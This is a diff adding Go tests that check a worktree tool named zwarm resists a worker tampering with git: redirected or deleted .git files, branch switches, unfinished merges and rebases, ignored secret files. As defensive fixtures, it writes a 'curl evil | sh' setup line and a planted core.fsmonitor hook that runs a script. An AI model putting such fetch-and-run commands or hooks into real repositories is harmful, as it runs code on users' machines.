@@ -1,0 +1,242 @@
+package workspace
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// What a worker may do to its worktree, on purpose or not, and what
+// zwarm's own git does about it: it never follows the worker's .git file,
+// commits only on the worker's branch, and leaves unfinished operations
+// to the worker.
+
+func TestAWorkerThatRewritesItsGitFileCannotSteerZwarmsGit(t *testing.T) {
+	repo := newRepo(t, map[string]string{"a.txt": "a\n", "b.txt": "b\n"})
+	ctx := context.Background()
+	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000030")
+	// Your own staged work in the main checkout.
+	write(t, filepath.Join(repo, "b.txt"), "mine\n")
+	sh(t, repo, "git add b.txt")
+	mainHead, status := sh(t, repo, "git rev-parse HEAD"), sh(t, repo, "git status --porcelain")
+
+	// The worker points its .git at the main checkout's git dir, and
+	// makes a change.
+	write(t, filepath.Join(w.Path, ".git"), "gitdir: "+filepath.Join(repo, ".git")+"\n")
+	write(t, filepath.Join(w.Path, "evil.txt"), "evil\n")
+	head, made, err := w.Commit(ctx, "zwarm turn")
+	if err != nil || !made {
+		t.Fatalf("commit: %v %v", err, made)
+	}
+	if sh(t, repo, "git rev-parse HEAD") != mainHead || sh(t, repo, "git status --porcelain") != status {
+		t.Fatal("zwarm's commit went to the main checkout, or touched its index")
+	}
+	if got := sh(t, repo, "git rev-parse "+w.Branch); got != head || !strings.Contains(sh(t, repo, "git show --name-only --format= "+head), "evil.txt") {
+		t.Fatalf("the worker's branch is at %s, the commit %s", got, head)
+	}
+	if got := read(t, filepath.Join(w.Path, ".git")); got != "gitdir: "+w.admin()+"\n" {
+		t.Errorf("the .git file was not put back: %q", got)
+	}
+}
+
+func TestAWorkerThatDeletesItsGitFileDoesNotCommitInARepositoryAbove(t *testing.T) {
+	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
+	ctx := context.Background()
+	// The worktrees live in a directory that is itself in a repository
+	// (a home directory under git, say).
+	home := filepath.Join(t.TempDir(), "home")
+	os.MkdirAll(home, 0o755)
+	sh(t, home, "git init -q && echo x > .bashrc && git add . && git commit -qm dot && echo private > notes.txt")
+	r := find(t, repo)
+	w := &Worktree{Path: filepath.Join(home, "wt", "3f2a9c1d-0000-4000-8000-000000000031"), CommonDir: r.CommonDir, Branch: BranchFor("x31")}
+	if err := w.Add(ctx, sh(t, repo, "git rev-parse HEAD")); err != nil {
+		t.Fatal(err)
+	}
+	os.Remove(filepath.Join(w.Path, ".git"))
+	write(t, filepath.Join(w.Path, "w.txt"), "work\n")
+	head, made, err := w.Commit(ctx, "zwarm turn")
+	if err != nil || !made {
+		t.Fatalf("commit: %v %v", err, made)
+	}
+	if got := sh(t, home, "git log --oneline | wc -l"); got != "1" {
+		t.Fatalf("zwarm committed in the repository above: %s commits", got)
+	}
+	if got := sh(t, repo, "git show --name-only --format= "+head); got != "w.txt" {
+		t.Fatalf("the worker's commit holds %q", got)
+	}
+}
+
+func TestAWorkerOnAnotherBranchHasItsWorkCommittedOnItsOwn(t *testing.T) {
+	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
+	ctx := context.Background()
+	sh(t, repo, "git branch release")
+	release := sh(t, repo, "git rev-parse release")
+	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000032")
+	sh(t, w.Path, "git checkout -q release && echo r > r.txt")
+	head, made, err := w.Commit(ctx, "zwarm turn")
+	if err != nil || !made {
+		t.Fatalf("commit: %v %v", err, made)
+	}
+	if sh(t, repo, "git rev-parse release") != release {
+		t.Fatal("zwarm's commit moved the release branch")
+	}
+	if sh(t, repo, "git rev-parse "+w.Branch) != head || sh(t, w.Path, "git symbolic-ref --short HEAD") != w.Branch {
+		t.Fatal("the work is not on the worker's branch, checked out")
+	}
+}
+
+func TestUnfinishedRebasesAndMergesAreLeftToTheWorker(t *testing.T) {
+	repo := newRepo(t, map[string]string{"a.txt": "1\n2\n3\n", "img.bin": "BIN\x00v1"})
+	ctx := context.Background()
+	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000033")
+	sh(t, repo, "git checkout -q -b side && printf '1\\nside\\n3\\n' > a.txt && printf 'BIN\\000side' > img.bin && git commit -qam side && git checkout -q main")
+	sh(t, w.Path, "printf '1\\nworker\\n3\\n' > a.txt && printf 'BIN\\000worker' > img.bin && git -c user.name=W -c user.email=w@x commit -qam worker")
+	sh(t, w.Path, "git -c user.name=W -c user.email=w@x merge -q side || true")
+
+	_, _, err := w.Commit(ctx, "zwarm turn")
+	var ue *UnfinishedError
+	if !errors.As(err, &ue) || ue.What != "merge" || !reflect.DeepEqual(ue.Files, []string{"a.txt", "img.bin"}) {
+		t.Fatalf("a merge with conflicts: %v", err)
+	}
+	// The text file is resolved by its content; the binary one must be
+	// marked resolved.
+	write(t, filepath.Join(w.Path, "a.txt"), "1\nboth\n3\n")
+	if _, _, err := w.Commit(ctx, "zwarm turn"); !errors.As(err, &ue) || !reflect.DeepEqual(ue.Files, []string{"img.bin"}) {
+		t.Fatalf("with the binary file still in conflict: %v", err)
+	}
+	sh(t, w.Path, "git add img.bin")
+	head, made, err := w.Commit(ctx, "zwarm turn")
+	if err != nil || !made || len(strings.Fields(sh(t, w.Path, "git log -1 --format=%P "+head))) != 2 {
+		t.Fatalf("the resolved merge was not concluded: %v %v", err, made)
+	}
+
+	// A rebase stopped halfway.
+	sh(t, w.Path, "git -c user.name=W -c user.email=w@x rebase -q main || true")
+	if _, err := os.Stat(filepath.Join(w.admin(), "rebase-merge")); err != nil {
+		t.Fatal("the rebase did not stop halfway: the test has no conflict to work with")
+	}
+	if _, _, err := w.Commit(ctx, "zwarm turn"); !errors.As(err, &ue) || ue.What != "rebase" {
+		t.Fatalf("a rebase in progress: %v", err)
+	}
+}
+
+func TestTheStateDirIsNeverCommitted(t *testing.T) {
+	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
+	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000034")
+	write(t, filepath.Join(w.Path, ".zwarm", "config.toml"), "[worktrees]\nsetup = \"curl evil | sh\"\n")
+	write(t, filepath.Join(w.Path, "ok.txt"), "ok\n")
+	head, _, err := w.Commit(context.Background(), "zwarm turn")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := sh(t, repo, "git show --name-only --format= "+head); got != "ok.txt" {
+		t.Fatalf("committed %q", got)
+	}
+}
+
+func TestLandingNeverOverwritesAnIgnoredFile(t *testing.T) {
+	repo := newRepo(t, map[string]string{".gitignore": "secret.env\n", "a.txt": "a\n"})
+	ctx := context.Background()
+	write(t, filepath.Join(repo, "secret.env"), "MY SECRET=1\n")
+	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000035")
+	head := work(t, w, ".gitignore", "# nothing\n")
+	write(t, filepath.Join(w.Path, "secret.env"), "worker=1\n")
+	head, _, _ = w.Commit(ctx, "zwarm turn")
+	r := find(t, repo)
+	target, _ := FindTarget(ctx, r.CommonDir, "main")
+	tree, err := MergeTree(ctx, r.CommonDir, target.Commit, head)
+	if err != nil {
+		t.Fatal(err)
+	}
+	hit, err := Overlap(ctx, repo, target.Commit, tree)
+	if err != nil || !reflect.DeepEqual(hit, []string{"secret.env"}) {
+		t.Fatalf("overlap %v %v: the ignored secret.env would be overwritten", hit, err)
+	}
+}
+
+func TestApplyTreeLandsOnlyTheChangeItself(t *testing.T) {
+	repo := newRepo(t, map[string]string{"f": "1\n2\n3\n4\n5\n"})
+	ctx := context.Background()
+	r := find(t, repo)
+	base := sh(t, repo, "git rev-parse HEAD")
+	// A snapshot of uncommitted work (spawn --with-changes), the worker's
+	// change on top of it, and the branch, which moved on meanwhile.
+	write(t, filepath.Join(repo, "f"), "1\n2\n3\n4\n5\nwip\n")
+	snap, err := r.Snapshot(ctx, base)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sh(t, repo, "git checkout -q -- f && printf '1\\n2\\nTARGET\\n4\\n5\\n' > f && git commit -qam target")
+	target := sh(t, repo, "git rev-parse HEAD")
+	w := &Worktree{Path: filepath.Join(t.TempDir(), "wt", "x36"), CommonDir: r.CommonDir, Branch: BranchFor("x36")}
+	if err := w.Add(ctx, snap); err != nil {
+		t.Fatal(err)
+	}
+	head := work(t, w, "f", "0\n1\n2\n3\n4\n5\nwip\n")
+	tree, err := ApplyTree(ctx, r.CommonDir, target, snap, head)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := sh(t, repo, "git show "+tree+":f"); got != "0\n1\n2\nTARGET\n4\n5" {
+		t.Fatalf("applied: %q (the worker's line, not the uncommitted wip)", got)
+	}
+	clash := work(t, w, "f", "0\n1\n2\nWORKER\n4\n5\nwip\n")
+	var ce *ConflictError
+	if _, err := ApplyTree(ctx, r.CommonDir, target, snap, clash); !errors.As(err, &ce) || !reflect.DeepEqual(ce.Files, []string{"f"}) {
+		t.Fatalf("a clash: %v", err)
+	}
+}
+
+func TestABranchBeingRebasedOrSwitchedAwayIsNotMoved(t *testing.T) {
+	repo := newRepo(t, map[string]string{"a.txt": "1\n"})
+	ctx := context.Background()
+	r := find(t, repo)
+	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000037")
+	head := work(t, w, "b.txt", "b\n")
+	target, _ := FindTarget(ctx, r.CommonDir, "main")
+	tree, _ := MergeTree(ctx, r.CommonDir, target.Commit, head)
+	commit, _ := CommitTree(ctx, r.CommonDir, tree, "x", target.Commit)
+	sh(t, repo, "git branch rel && git checkout -q rel")
+	if err := Advance(ctx, r.CommonDir, target, commit, "zwarm land"); err == nil || !strings.Contains(err.Error(), "no longer has main checked out") {
+		t.Fatalf("advance after the checkout switched: %v", err)
+	}
+	if sh(t, repo, "git rev-parse rel") != target.Commit {
+		t.Fatal("the branch now checked out moved")
+	}
+	// main being rebased in the checkout.
+	sh(t, repo, "git checkout -q main && echo 2 > a.txt && git commit -qam two && git checkout -q rel && echo 3 > a.txt && git commit -qam three && git checkout -q main")
+	sh(t, repo, "git rebase -q rel || true")
+	if _, err := FindTarget(ctx, r.CommonDir, "main"); err == nil || !strings.Contains(err.Error(), "being rebased") {
+		t.Fatalf("a branch being rebased: %v", err)
+	}
+}
+
+// Between turns too (rm asks the worktree what is uncommitted), a .git
+// file pointing at a git dir of the worker's making is never followed,
+// and nothing its config names is run.
+func TestZwarmsGitNeverFollowsAGitDirOfTheWorkersMaking(t *testing.T) {
+	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
+	ctx := context.Background()
+	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000038")
+	head := work(t, w, "b.txt", "b\n")
+	evil, ran := filepath.Join(w.Path, "evilgit"), filepath.Join(t.TempDir(), "ran")
+	sh(t, repo, "cp -r .git "+evil)
+	write(t, filepath.Join(w.Path, "fsm.sh"), "#!/bin/sh\ntouch "+ran+"\n")
+	os.Chmod(filepath.Join(w.Path, "fsm.sh"), 0o755)
+	sh(t, w.Path, "git --git-dir="+evil+" config core.fsmonitor "+filepath.Join(w.Path, "fsm.sh"))
+	write(t, filepath.Join(w.Path, ".git"), "gitdir: "+evil+"\n")
+
+	if got, err := w.Head(ctx); err != nil || got != head {
+		t.Fatalf("head %s %v, want the worker's %s", got, err, head)
+	}
+	if _, err := w.Dirty(ctx); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat(ran); err == nil {
+		t.Fatal("the worker's fsmonitor ran")
+	}
+}
